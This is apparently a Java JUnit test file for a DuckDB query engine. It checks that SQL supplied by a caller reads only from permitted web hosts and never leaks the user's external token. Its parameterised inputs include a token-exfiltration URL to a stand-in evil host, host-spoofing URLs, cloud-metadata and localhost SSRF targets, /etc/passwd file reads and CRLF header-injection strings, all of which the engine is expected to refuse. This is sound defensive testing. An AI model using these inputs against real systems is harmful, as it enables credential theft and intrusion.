package io.mxcp.duckdb;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.mxcp.domain.query.AccessMode;
import io.mxcp.domain.query.QueryException;
import io.mxcp.domain.query.QueryException.Reason;
import io.mxcp.domain.query.QueryResult;
import io.mxcp.domain.query.Sql;
import io.mxcp.domain.secret.SecretGenerator;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A caller's SQL that reads over HTTP: with handles (Q17), and no further than it may (T69, T70). */
class CallersWebTest {
    private static final String OWN = "https://api.github.com/user";
    private static final String OTHER = "https://data.example.com/x";
    private static final String CSV = "https://data.example.com/csv";
    private static final Identity ALICE = Engines.person("alice", Set.of("api.github.com", "*.githubusercontent.com"));
    private static final RecordedWeb WEB = new RecordedWeb()
            .with(OWN, "{\"login\": \"alice\"}")
            .with(OTHER, "{\"x\": 1}")
            .with(CSV, "c,d\n\"[[1],[2]]\",2026-01-02\n")
            .with("https://api.github.com/token-of-alice", "{}")
            .with("https://raw.githubusercontent.com/x", "{}");

    @SuppressWarnings("NullAway.Init") // by the set-up
    private static DuckDbEngine engine;

    @BeforeAll
    static void open() throws Exception {
        engine = opened(DuckDbSettings.inMemory().withEngine(4, 512L * 1024 * 1024));
        Engines.write(engine, "CREATE TABLE notes(owner VARCHAR, i BIGINT); INSERT INTO notes VALUES ('alice', 3)");
        Engines.write(
                engine, "CREATE TABLE \"odd name\"(\"a b\" INTEGER); CREATE VIEW me AS SELECT get_username() AS u");
    }

    private static DuckDbEngine opened(DuckDbSettings settings) throws EngineStartException {
        return DuckDbEngine.open(
                settings.withWebHosts(Set.of("data.example.com")), new SecretGenerator(), Optional.of(WEB));
    }

    @AfterAll
    static void close() throws Exception {
        engine.close();
    }

    @BeforeEach
    void forget() {
        WEB.forget();
    }

    private static QueryResult ask(String sql) throws QueryException {
        return Engines.run(engine, ALICE, AccessMode.READ_ONLY, new Sql.ByCaller(sql), Map.of());
    }

    private static String bearer(String address) {
        return "SELECT * FROM read_json_auto('" + address
                + "', headers = MAP {'Authorization': 'Bearer ' || get_user_external_token()})";
    }

    private static QueryException refused(String sql) {
        QueryException refused = assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> ask(sql))
                .actual();
        assertThat(refused.reason()).as(sql).isEqualTo(Reason.REFUSED);
        assertThat(refused.getMessage()).doesNotContain("token-of-alice").doesNotContain("/tmp");
        assertThat(WEB.requests()).isEmpty();
        return refused;
    }

    @Test
    void sendsTheTokenForItsHandleToTheProvidersHosts() throws Exception {
        assertThat(ask(bearer(OWN)).rows()).containsExactly(List.of("alice"));
        assertThat(WEB.lastHeader("Authorization")).isEqualTo("Bearer token-of-alice");
        ask(bearer("https://raw.githubusercontent.com/x"));
        assertThat(WEB.lastHeader("Authorization")).isEqualTo("Bearer token-of-alice");
    }

    @Test
    void sendsTheHandleItselfToAnyOtherHost() throws Exception {
        assertThat(ask(bearer(OTHER)).rows()).containsExactly(List.of(1L));
        assertThat(WEB.lastHeader("Authorization")).startsWith("Bearer " + TokenHandles.PREFIX);
    }

    @Test
    void neverPutsTheTokenInAnAddress() {
        assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> ask("FROM read_json_auto('https://api.github.com/' || get_user_external_token())"));
        assertThat(WEB.requests())
                .allSatisfy(request -> assertThat(request.address().toString()).doesNotContain("token-of"));
    }

    @Test
    void takesNoHandleOfAnotherLease() throws Exception {
        String handle =
                ask("SELECT get_user_external_token()").rows().get(0).get(0).toString();
        ask("FROM read_json_auto('" + OWN + "', headers = MAP {'Authorization': 'Bearer " + handle + "'})");
        assertThat(WEB.lastHeader("Authorization")).isEqualTo("Bearer " + handle);
    }

    @Test
    void sendsTheRawTokenWhereTheOperatorAllowsIt() throws Exception {
        try (DuckDbEngine raw = opened(DuckDbSettings.inMemory().withRawExternalToken(true))) {
            Engines.run(raw, ALICE, AccessMode.READ_ONLY, new Sql.ByCaller(bearer(OTHER)), Map.of());
            assertThat(WEB.lastHeader("Authorization")).isEqualTo("Bearer token-of-alice");
        }
    }

    @Test
    void saysThatTheProviderNoLongerTakesTheTokenOfAHandle() {
        assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> ask(bearer("https://api.github.com/gone")))
                .extracting(QueryException::reason)
                .isEqualTo(Reason.TOKEN_REFUSED);
        assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> ask(bearer("https://data.example.com/gone")))
                .extracting(QueryException::reason)
                .isEqualTo(Reason.FAILED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/?t=' || get_user_external_token() || '",
                "https://api.github.com.evil.example/",
                "https://evilapi.github.com/",
                "https://githubusercontent.com/",
                "https://api.github.com:444/",
                "https://api.github.com@evil.example/",
                "https://alice:secret@api.github.com/",
                "https://api.github.com\\@evil.example/",
                "https://api.github.com./",
                "http://api.github.com/",
                "HTTP://api.github.com/",
                "ftp://api.github.com/",
                "file:///etc/passwd",
                "file://api.github.com/etc/passwd",
                "FILE:/etc/passwd",
                "/etc/passwd",
                "../x",
                "",
                "https:///etc/passwd",
                "https:api.github.com",
                "https://",
                "https://127.0.0.1/",
                "https://[::1]/",
                "https://2130706433/",
                "https://169.254.169.254/latest/meta-data",
                "https://localhost/",
                "https://apı.github.com/",
                "https://bücher.example/",
                "https://api.github.com/a b",
                "https://api.github.com/\r\nX: y",
                "s3://bucket/x",
                "http://localhost:1/x"
            })
    void refusesAnAddressThatIsNoHostOfTheCaller(String address) {
        for (String reader : List.of("read_json_auto", "read_text", "read_csv", "read_parquet", "read_blob")) {
            refused("SELECT * FROM " + reader + "('" + address + "')");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"HTTPS://API.GITHUB.COM/user", "https://api.github.com:443/user"})
    void takesAnotherSpellingOfAnAllowedHost(String address) throws Exception {
        WEB.with(address, "{\"login\": \"alice\"}");
        ask(bearer(address));
        assertThat(WEB.lastHeader("Authorization")).isEqualTo("Bearer token-of-alice");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "MAP {'Host': 'evil.example'}",
                "MAP {'hOST': 'evil.example'}",
                "MAP {'Cookie': 'a=b'}",
                "MAP {'Content-Length': '0'}",
                "MAP {'Connection': 'close'}",
                "MAP {'Transfer-Encoding': 'chunked'}",
                "MAP {'Accept-Encoding': 'br'}",
                "MAP {'Proxy-Authorization': 'x'}",
                "MAP {'X': 'a' || chr(13) || chr(10) || 'Host: evil.example'}",
                "MAP {'X': 'a' || chr(10) || 'b'}",
                "MAP {'X': 'a' || chr(0) || 'b'}",
                "MAP {'X': 'ü'}",
                "MAP {'X' || chr(10) || 'Y': 'a'}",
                "MAP {'X Y': 'a'}",
                "MAP {'': 'a'}",
                "MAP {'x': 'a', 'X': 'b'}",
                "MAP {'X': NULL}",
                "MAP {'X': ['a']}",
                "['Authorization']",
                "'Authorization: x'"
            })
    void refusesAHeaderThatIsNotSqls(String headers) {
        refused("SELECT * FROM read_json_auto('" + OWN + "', headers = " + headers + ")");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT __mxcp_read_web('" + OWN + "', '')",
                "SELECT system.main.__mxcp_read_web_json('" + OWN + "', '')",
                "SELECT \"__MXCP_READ_WEB\"('" + OWN + "', '')",
                "FROM read_text(system.main.__mxcp_read_web('" + OWN + "', ''))",
                "FROM read_text('" + OWN + "') WHERE filename = __mxcp_read_web('" + OWN + "', '')",
                "FROM read_text(['" + OWN + "', '/etc/passwd'])",
                "FROM read_text(['" + OWN + "'])",
                "FROM read_json_auto('" + OWN + "', filename = true)",
                "FROM read_json_auto('" + OWN + "', compression = 'gzip')",
                "FROM read_json_auto('" + OWN + "', maximum_object_size = 1000000000)",
                "FROM read_json_auto('" + OWN + "', '/etc/passwd')",
                "FROM read_csv('" + OWN + "', store_rejects = true)",
                "FROM read_csv('" + OWN + "', encoding = 'x')",
                "FROM read_parquet('" + OWN + "', encryption_config = {footer_key: 'x'})",
                "FROM parquet_metadata('" + OWN + "')",
                "FROM parquet_scan('" + OWN + "')",
                "FROM sniff_csv('" + OWN + "')",
                "FROM glob('/tmp/mxcp-web-*/*')",
                "FROM '" + OWN + "'",
                "FROM \"" + OWN + "\"",
                "FROM query('FROM read_text(''" + OWN + "'')')",
                "FROM evil.read_text('" + OWN + "')",
                "EXPLAIN FROM read_text('" + OWN + "')",
                "FROM read_text('" + OWN + "' || current_setting('temp_directory'))",
                "FROM read_text('" + OWN + "', headers = MAP {'a': getvariable('x')})"
            })
    void refusesWhatReadsAnythingElse(String sql) {
        refused(sql);
    }

    static List<String> attacks() throws IOException {
        return Engines.lines("caller-attacks.sql");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void refusesAnAttackThoughItMayRead(String attack) {
        refused(attack);
    }

    @Test
    void readsInJoinsAndWithOptions() throws Exception {
        assertThat(ask("WITH r AS (FROM read_json('" + OWN + "', columns = {login: 'VARCHAR'}, format := 'auto'))"
                                + " SELECT n.i, o.x FROM notes n JOIN r ON n.owner = r.login, read_json_auto('" + OTHER
                                + "') o")
                        .rows())
                .containsExactly(List.of(3L, 1L));
    }

    /** The engine's own error about such a value ends the process, one time out of four, or quotes what lay in memory. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "FROM read_csv('" + CSV + "', columns = {'c': 'INTEGER[][]'})",
                "FROM read_csv_auto('" + CSV + "', columns = {'c': 'STRUCT(a INTEGER)'})",
                "FROM read_csv('" + CSV + "', types = ['MAP(VARCHAR, INTEGER)'])",
                "FROM read_csv('" + CSV + "', dtypes := {'c': 'INT' || '[]'})",
                "FROM read_csv('" + CSV + "', column_types = MAP {'c': 'INT[]'})",
                "SELECT c::INTEGER[][] FROM read_csv('" + CSV + "')",
                "WITH r AS (SELECT c FROM read_csv('" + CSV + "')) SELECT try_cast(c AS STRUCT(a INTEGER)) FROM r"
            })
    void refusesToMakeListsOfCsv(String sql) {
        assertThat(refused(sql)).hasMessageContaining("not made of CSV here");
    }

    @Test
    void makesOtherTypesOfCsv() throws Exception {
        assertThat(ask("SELECT c, d::DATE FROM read_csv('" + CSV
                                + "', types = {'c': 'VARCHAR', 'd': 'VARCHAR'}, auto_type_candidates = ['DECIMAL(10, 2)'])")
                        .rows())
                .hasSize(1);
        assertThat(ask("SELECT from_json(c, '[[\"INTEGER\"]]')[1] FROM read_csv('" + CSV + "')")
                        .rows())
                .hasSize(1);
    }
}
